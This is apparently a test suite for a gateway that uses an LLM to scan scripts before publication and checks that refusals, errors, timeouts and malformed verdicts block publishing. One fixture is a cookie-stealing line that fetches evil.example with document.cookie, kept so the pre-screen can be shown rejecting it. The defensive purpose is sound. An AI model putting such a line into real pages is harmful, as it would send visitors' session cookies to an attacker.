/**
 * The scan fails closed, as an admin sees it: only the pre-screen passed and an answer of the model
 * that is exactly a SAFE verdict certify. A refusal (in words or by the provider's content filter),
 * an error of the provider, a timeout, an answer that is not a verdict: INCONCLUSIVE, and publish
 * stays 409. The pre-screen decides first (the model is not asked); a draft changed while it is
 * scanned keeps no outcome; no configured model is 422 SCAN_CONFIGURATION_ERROR.
 */
import { describe, expect, layer } from "@effect/vitest"
import { Effect, Fiber, Layer } from "effect"
import { gatewayTestLayer } from "../../../src/layers/Test.ts"
import { backends, defaultBackend } from "../../support/backends.ts"
import { eventually, FakeLlmServer } from "../../support/fake-llm.ts"
import { expectErrorBody } from "../../support/gateway.ts"
import { SCANNER, scriptsOf, verdict } from "./client.ts"

/** Scans a new script holding `marker` and answers the reply; publishing it is then tried and must be refused unless certified. */
const scanned = (tenant: string, marker: string) =>
  Effect.gen(function*() {
    const client = yield* scriptsOf(tenant)
    const id = yield* client.create(`Script ${marker}`, `document.title = "${marker}"`)
    const reply = yield* client.post(id, "scan")
    expect(reply.status, reply.text).toBe(200)
    const publish = yield* client.post(id, "publish")
    return { ...client, id, scan: reply.json.scan, publish }
  })

const notCertified = (result: { readonly scan: any; readonly publish: { status: number; json: any } }, why: string) => {
  expect(result.scan).toMatchObject({ outcome: "INCONCLUSIVE", decidedBy: "llm", providerId: SCANNER })
  expect(result.scan.reasons.join(" ")).toContain(why)
  expectErrorBody(result.publish, 409, "CONFLICT")
  expect(result.publish.json.message).toContain("INCONCLUSIVE")
}

for (const backend of backends) {
  const gateway = Layer.provideMerge(
    gatewayTestLayer({
      ...backend.config,
      SCRIPT_SCAN_PROVIDER: SCANNER,
      SCRIPT_SCAN_TIMEOUT: "1 second",
      LLM_RETRIES: "1",
      LLM_RETRY_BASE_DELAY: "10 millis"
    }),
    FakeLlmServer.layer
  )
  describe(`script scans (${backend.name})`, () => {
    layer(gateway, { timeout: 120_000 })("fail closed", (it) => {
      it.effect("a SAFE verdict, alone or in one fenced block, certifies", () =>
        Effect.gen(function*() {
          const fake = yield* FakeLlmServer
          fake.scriptWhen("FENCED-SAFE", { text: "```json\n" + verdict("SAFE") + "\n```" })
          const result = yield* scanned("fenced", "FENCED-SAFE")
          expect(result.scan).toMatchObject({ outcome: "CERTIFIED", reasons: [] })
          expect(result.publish.status).toBe(200)
        }))

      it.effect("a refusal in words is not certified", () =>
        Effect.gen(function*() {
          const fake = yield* FakeLlmServer
          fake.scriptWhen("REFUSED", { text: "I'm sorry, but I can't help with reviewing this script." })
          const result = yield* scanned("refusal", "REFUSED")
          notCertified(result, "not a verdict")
          expect(result.scan.answer).toContain("I'm sorry")
        }))

      it.effect("a refusal by the provider's content filter is not certified, whatever the text says", () =>
        Effect.gen(function*() {
          const fake = yield* FakeLlmServer
          fake.scriptWhen("FILTERED", { text: verdict("SAFE"), finishReason: "content_filter" })
          notCertified(yield* scanned("filtered", "FILTERED"), "content-filter")
        }))

      it.effect("an answer cut at its length limit is not certified", () =>
        Effect.gen(function*() {
          const fake = yield* FakeLlmServer
          fake.scriptWhen("CUT", { text: verdict("SAFE"), finishReason: "length" })
          notCertified(yield* scanned("cut", "CUT"), "did not end normally")
        }))

      it.effect("an error of the provider is not certified", () =>
        Effect.gen(function*() {
          const fake = yield* FakeLlmServer
          fake.script({ fail: { status: 500, times: 2, message: "upstream exploded" } })
          const failed = yield* scanned("server-error", "SERVER-ERROR")
          fake.script({})
          notCertified(failed, "upstream exploded")
          expect(failed.scan.answer).toBeNull()

          fake.script({ fail: { status: 400, times: 1, message: "context length exceeded" } })
          const refused = yield* scanned("bad-request", "BAD-REQUEST")
          fake.script({})
          notCertified(refused, "context length exceeded")
        }))

      it.effect("a model slower than SCRIPT_SCAN_TIMEOUT is not certified", () =>
        Effect.gen(function*() {
          const fake = yield* FakeLlmServer
          fake.scriptWhen("SLOW", { text: verdict("SAFE"), wholeDelayMs: 3_000 })
          notCertified(yield* scanned("slow", "SLOW"), "SCRIPT_SCAN_TIMEOUT")
        }))

      it.effect("answers that are not exactly a verdict are not certified", () =>
        Effect.gen(function*() {
          const fake = yield* FakeLlmServer
          const unreadable = {
            WORD: "SAFE",
            LOWER: JSON.stringify({ verdict: "safe" }),
            OTHER: JSON.stringify({ verdict: "PROBABLY_SAFE" }),
            MORE: `${verdict("SAFE")}\nThough it does reach the network.`,
            TWO: `${verdict("SAFE")}\n${verdict("UNSAFE")}`,
            EMPTY: ""
          }
          for (const [marker, text] of Object.entries(unreadable)) {
            fake.scriptWhen(`UNREADABLE-${marker}`, { text })
            notCertified(yield* scanned(`unreadable-${marker.toLowerCase()}`, `UNREADABLE-${marker}`), "not a verdict")
          }
        }))

      it.effect("the pre-screen decides first: a script that calls fetch is REJECTED without asking the model", () =>
        Effect.gen(function*() {
          const { create, fake, post } = yield* scriptsOf("pre-screen")
          const before = fake.requests.length
          const id = yield* create("Exfiltrate", "// PRE-SCREENED\nfetch('https://evil.example/?' + document.cookie)")
          const scan = (yield* post(id, "scan")).json.scan
          expect(scan).toMatchObject({ outcome: "REJECTED", decidedBy: "pre-screen", providerId: null, answer: null })
          expect(scan.reasons).toEqual([
            "Line 2, column 1: uses fetch (reaches the network)",
            "Line 2, column 43: uses cookie (reads the browser's cookies, storage or credentials)"
          ])
          expect(fake.requests.length).toBe(before)
          expectErrorBody(yield* post(id, "publish"), 409, "CONFLICT")
        }))

      it.effect("a draft changed while it is scanned keeps no outcome: 409, and the new draft is not certified", () =>
        Effect.gen(function*() {
          const { create, fake, post, read, setDraft } = yield* scriptsOf("changed")
          fake.scriptWhen("CHANGING", { text: verdict("SAFE"), wholeDelayMs: 600 })
          const id = yield* create("Changing", "document.title = 'CHANGING'")
          const scanning = yield* Effect.fork(post(id, "scan"))
          yield* eventually(() => fake.requests.some((r) => JSON.stringify(r.body).includes("CHANGING")))
          expect((yield* setDraft(id, "document.title = 'changed'")).status).toBe(200)
          const reply = yield* Fiber.join(scanning)
          expectErrorBody(reply, 409, "CONFLICT")
          expect(reply.json.message).toContain("changed while it was scanned")
          expect(yield* read(id)).toMatchObject({ draftContent: "document.title = 'changed'", scan: null })
          expectErrorBody(yield* post(id, "publish"), 409, "CONFLICT")
        }))

      it.effect("SCRIPT_SCAN_PROVIDER naming a configuration the tenant does not have: 422", () =>
        Effect.gen(function*() {
          const { create, post, read } = yield* scriptsOf("no-scanner", { scanner: false })
          const id = yield* create("Unscanned", "void 0")
          const refused = yield* post(id, "scan")
          expectErrorBody(refused, 422, "SCAN_CONFIGURATION_ERROR")
          expect(refused.json.message).toContain(`'${SCANNER}'`)
          expect((yield* read(id)).scan).toBeNull()
        }))
    })
  })
}

describe("script scans without SCRIPT_SCAN_PROVIDER", () => {
  layer(Layer.provideMerge(gatewayTestLayer(defaultBackend.config), FakeLlmServer.layer), { timeout: 120_000 })(
    "unconfigured",
    (it) => {
      it.effect("no model is configured for scans: 422, and the draft cannot be published", () =>
        Effect.gen(function*() {
          const { create, fake, post } = yield* scriptsOf("unconfigured")
          const id = yield* create("Unscanned", "void 0")
          const refused = yield* post(id, "scan")
          expectErrorBody(refused, 422, "SCAN_CONFIGURATION_ERROR")
          expect(refused.json.message).toContain("SCRIPT_SCAN_PROVIDER")
          expect(fake.requests).toHaveLength(0)
          expectErrorBody(yield* post(id, "publish"), 409, "CONFLICT")
        }))
    }
  )
})
